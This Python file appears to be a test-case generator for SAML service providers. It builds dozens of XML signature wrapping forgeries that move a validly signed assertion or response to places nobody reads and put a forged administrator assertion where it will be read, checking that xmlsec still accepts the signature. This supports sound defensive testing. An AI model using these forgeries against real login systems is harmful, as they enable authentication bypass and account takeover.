"""Signature wrapping: the signed element is moved to where nobody reads it, and a forged one is read instead."""

from copy import deepcopy

import xmlsec
from lxml import etree

import saml_message as m
from saml_cases import Message, special
from saml_message import ASSERTION, DS, HONEST, PROTOCOL, edit
from saml_signers import PARSER, keys, sign

REPEATED = "saml.assertion.repeated"
SAME_ID = "saml.xml.id-repeated"
NESTED = "saml.response.nested"
HOLDER = '<samlp:Extensions><x xmlns="urn:x"/></samlp:Extensions><samlp:Status>'


class Wrapped:
    """A signed response taken apart: the signed element, a bare copy of it, its signature, and a forged copy."""

    def __init__(self, signer, place, same_id=False):
        self.root = etree.fromstring(sign(HONEST, signer, place=place).encode(), PARSER)
        self.target = self.root if place == "response" else self.root.find(f"{{{ASSERTION}}}Assertion")
        self.signature = deepcopy(self.target.find(f"{{{DS}}}Signature"))
        self.bare = self.copy()
        self.forged = self.copy()
        if not same_id:
            self.forged.set("ID", "_evil")
            for inner in self.forged.iter(f"{{{ASSERTION}}}Assertion"):
                inner.set("ID", "_evil" if inner is self.forged else "_evil-assertion")
        value = next(self.forged.iter(f"{{{ASSERTION}}}AttributeValue"))
        value.text = m.ADMINISTRATOR

    def copy(self):
        """The signed element without its signature."""
        copied = deepcopy(self.target)
        copied.tail = None
        copied.remove(copied.find(f"{{{DS}}}Signature"))
        return copied

    def signed_forgery(self):
        """Gives the forged element the signature of the right one."""
        self.forged.insert(1, self.signature)

    def read_forgery(self):
        """Puts the forged element where the signed one was."""
        if self.target is self.root:
            self.root = self.forged
        else:
            self.root.replace(self.target, self.forged)

    def text(self):
        return etree.tostring(self.root, encoding="unicode")


def into(tag, *children):
    """An element that holds others."""
    element = etree.Element(tag)
    element.extend(children)
    return element


def first_in_signature(parts):
    parts.signed_forgery()
    parts.signature.insert(0, parts.bare)
    parts.read_forgery()


def before_the_signature(parts):
    parts.signed_forgery()
    parts.forged.insert(1, parts.bare)
    parts.read_forgery()


def beside_the_original(parts):
    if parts.target is parts.root:
        parts.forged.insert(0, deepcopy(parts.target))
        parts.read_forgery()
    else:
        parts.target.addprevious(parts.forged)


def original_inside(parts):
    original = deepcopy(parts.target)
    holder = parts.forged if parts.target is not parts.root else parts.forged.find(f"{{{ASSERTION}}}Assertion")
    holder.append(original)
    parts.read_forgery()


def copy_at_the_end(parts):
    parts.signed_forgery()
    parts.read_forgery()
    parts.root.append(parts.bare)


def last_in_signature(parts):
    parts.signed_forgery()
    parts.signature.append(parts.bare)
    parts.read_forgery()


def in_extensions(parts):
    if parts.target is parts.root:
        original = deepcopy(parts.target)
        parts.forged.insert(1, into(f"{{{PROTOCOL}}}Extensions", original))
        parts.read_forgery()
    else:
        parts.root.insert(1, into(f"{{{PROTOCOL}}}Extensions", parts.forged))


def in_object(parts):
    parts.signed_forgery()
    parts.signature.append(into(f"{{{DS}}}Object", parts.bare))
    parts.read_forgery()


WRAPPINGS = [
    first_in_signature,
    before_the_signature,
    beside_the_original,
    original_inside,
    copy_at_the_end,
    last_in_signature,
    in_extensions,
    in_object,
]


# The original is inside of the signature, which the enveloped transform of xmlsec takes away with everything in it;
# other verifiers take only a child of the original away.
IN_SIGNATURE = [first_in_signature, last_in_signature, in_object]


def fools_a_verifier(text):
    """Fails if xmlsec, asked about the first signature and nothing else, does not find it good: no attack then."""
    root = etree.fromstring(text.encode(), PARSER)
    xmlsec.tree.add_ids(root, ["ID"])
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_memory(keys()["idp"].public, xmlsec.KeyFormat.PEM)
    context.verify(next(root.iter(f"{{{DS}}}Signature")))


def wrapping(name, code, place, wrap, same_id=False):
    """Registers one way of wrapping; the twin is what the forger wanted, signed by the right key."""

    @special("wrapping", name, code)
    def build(signer):
        parts = Wrapped(signer, place, same_id)
        wrap(parts)
        # With the same identifier twice, verifiers differ in which one they take.
        if not same_id and wrap not in IN_SIGNATURE:
            fools_a_verifier(parts.text())
        wanted = edit(
            HONEST,
            [
                (m.USERNAME_VALUE, m.USERNAME_VALUE.replace(m.USERNAME, m.ADMINISTRATOR)),
                (f'ID="_{place}"', 'ID="_evil"'),
                ("<samlp:Status>", HOLDER),
            ],
        )
        return parts.text(), Message(sign(wanted, signer, place=place), username=m.ADMINISTRATOR)


for place, code in {"assertion": REPEATED, "response": NESTED}.items():
    for number, wrap in enumerate(WRAPPINGS, start=1):
        wrapping(f"xsw{number}-{place}", code, place, wrap)
        wrapping(f"xsw{number}-{place}-same-id", SAME_ID, place, wrap, same_id=True)


# --- other hiding places of a signed assertion, and of a forged one ---


def hide(tag_path):
    """The original, signed, at a path of new elements within the forged assertion."""

    def wrap(parts):
        parent = parts.forged
        for tag in tag_path:
            found = next(parent.iter(tag), None)
            parent = found if found is not None else etree.SubElement(parent, tag)
        parent.append(deepcopy(parts.target))
        parts.read_forgery()

    return wrap


SAML = f"{{{ASSERTION}}}"
for name, path in {
    "advice": [SAML + "Advice"],
    "subject": [SAML + "Subject"],
    "confirmation-data": [SAML + "SubjectConfirmationData"],
    "attribute-value": [SAML + "Attribute", SAML + "AttributeValue"],
    "name-id": [SAML + "NameID"],
    "conditions": [SAML + "Conditions"],
    "authn-context": [SAML + "AuthnContext", SAML + "AuthnContextDecl"],
    "encrypted-assertion": [SAML + "EncryptedAssertion"],
}.items():
    code = "saml.encrypted" if name.startswith("encrypted") else REPEATED
    wrapping(f"original-in-{name}", code, "assertion", hide(path))


def in_response(tag, forged=True):
    """A forged, or the original, assertion within another child of the response."""

    def wrap(parts):
        if forged:
            moved = parts.forged
        else:
            moved = deepcopy(parts.target)
            parts.read_forgery()
        status = parts.root.find(f"{{{PROTOCOL}}}Status")
        (status if tag == "StatusDetail" else parts.root).insert(1, into(f"{{{PROTOCOL}}}{tag}", moved))

    return wrap


wrapping("forged-in-status-detail", REPEATED, "assertion", in_response("StatusDetail"))
wrapping("original-in-status-detail", REPEATED, "assertion", in_response("StatusDetail", forged=False))
wrapping("original-in-extensions", REPEATED, "assertion", in_response("Extensions", forged=False))
wrapping("forged-after-the-original", REPEATED, "assertion", lambda parts: parts.target.addnext(parts.forged))


def root(tag):
    """Both responses within a root of the forger."""

    def wrap(parts):
        parts.root = into(tag, parts.forged, deepcopy(parts.root))

    return wrap


ROOT = "saml.response.root"
wrapping("root-of-another-kind", ROOT, "response", root("wrapper"))
wrapping("root-soap", ROOT, "response", root("{http://schemas.xmlsoap.org/soap/envelope/}Envelope"))
